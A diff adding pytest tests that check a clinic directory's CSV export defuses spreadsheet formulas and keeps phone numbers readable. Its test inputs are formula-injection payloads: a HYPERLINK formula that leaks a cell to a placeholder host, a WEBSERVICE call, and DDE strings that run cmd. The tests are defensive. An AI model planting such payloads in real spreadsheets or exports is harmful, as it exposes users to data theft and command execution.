@@ -250,6 +250,37 @@ def test_csv_export_defuses_spreadsheet_formulas():
     assert row["name"].startswith("'=") and row["phone"] == "+1 404 555 0100"
 
 
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '-1+HYPERLINK("http://example.org/?leak="&A1)',
+        '+(WEBSERVICE("http://example.org/"))',
+        "+1+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=1+1",
+        "\t=1+1",
+        "\r=1+1",
+        "-2+3",
+    ],
+)
+def test_csv_export_defuses_every_owasp_formula_start(formula):
+    """Issue 13, finding 3: any cell starting with =, +, -, @, tab or CR is prefixed with a quote."""
+    ClinicFactory(name=formula, slug="formula", description=formula, phone=formula[:30])
+    out = io.StringIO()
+    write_clinics_csv(Clinic.objects.with_lookups(), out)
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    for column in ("name", "description", "phone"):
+        assert row[column].startswith("'") and row[column][1:] == getattr(Clinic.objects.get(), column)
+
+
+@pytest.mark.parametrize("phone", ["+1 404 555 0100", "+1 (404) 555-0100", "+14045550100", "(404) 555-0100"])
+def test_csv_export_keeps_phone_numbers_readable(phone):
+    ClinicFactory(slug="phone", phone=phone)
+    out = io.StringIO()
+    write_clinics_csv(Clinic.objects.with_lookups(), out)
+    assert next(csv.DictReader(io.StringIO(out.getvalue())))["phone"] == phone
+
+
 def test_geojson_is_a_feature_collection_of_points(clinics):
     document = clinics_geojson(Clinic.objects.with_lookups().filter(slug="full"))
     (feature,) = document["features"]
